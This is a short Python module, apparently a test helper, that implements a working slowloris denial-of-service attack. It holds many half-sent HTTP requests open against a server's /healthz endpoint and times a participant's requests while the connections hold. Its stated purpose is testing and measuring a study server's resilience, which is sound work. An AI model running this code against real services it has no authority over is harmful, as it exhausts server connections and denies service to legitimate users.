"""A slowloris against a study server, for the tests and for measuring: many connections that
each send the start of a request and then only a header line now and then, never its end; and a
participant's requests timed while they hold."""

from __future__ import annotations

import socket
import time
import urllib.request
from dataclasses import dataclass, field


@dataclass
class Slowloris:
    """``n`` half-sent requests to ``host:port``, opened by :meth:`open`; :meth:`trickle` sends
    each one more header line (keeping it busy-looking), :meth:`alive` counts those the server
    has not closed."""

    host: str
    port: int
    n: int
    socks: list[socket.socket] = field(default_factory=list)

    def open(self) -> Slowloris:
        for _ in range(self.n):
            s = socket.create_connection((self.host, self.port), timeout=5)
            s.sendall(f"GET /healthz HTTP/1.1\r\nHost: {self.host}\r\nX-Wait: ".encode())
            self.socks.append(s)
        return self

    def trickle(self) -> None:
        for s in self.socks:
            try:
                s.sendall(b"a\r\nX-Wait: ")
            except OSError:
                pass

    def alive(self) -> int:
        """The connections still open at the server's end (no EOF or reset waiting)."""
        n = 0
        for s in self.socks:
            s.setblocking(False)
            try:
                n += s.recv(1) != b""
            except BlockingIOError:
                n += 1
            except OSError:
                pass
            finally:
                s.setblocking(True)
        return n

    def close(self) -> None:
        for s in self.socks:
            s.close()
        self.socks.clear()

    def __enter__(self) -> Slowloris:
        return self.open()

    def __exit__(self, *exc: object) -> None:
        self.close()


def timed_get(url: str, timeout_s: float) -> float | None:
    """Seconds to get a 200 from ``url``; ``None`` if none came within ``timeout_s``."""
    t0 = time.monotonic()
    try:
        with urllib.request.urlopen(url, timeout=timeout_s) as resp:
            resp.read()
            ok = resp.status == 200
    except OSError:
        return None
    took = time.monotonic() - t0
    return took if ok and took <= timeout_s else None
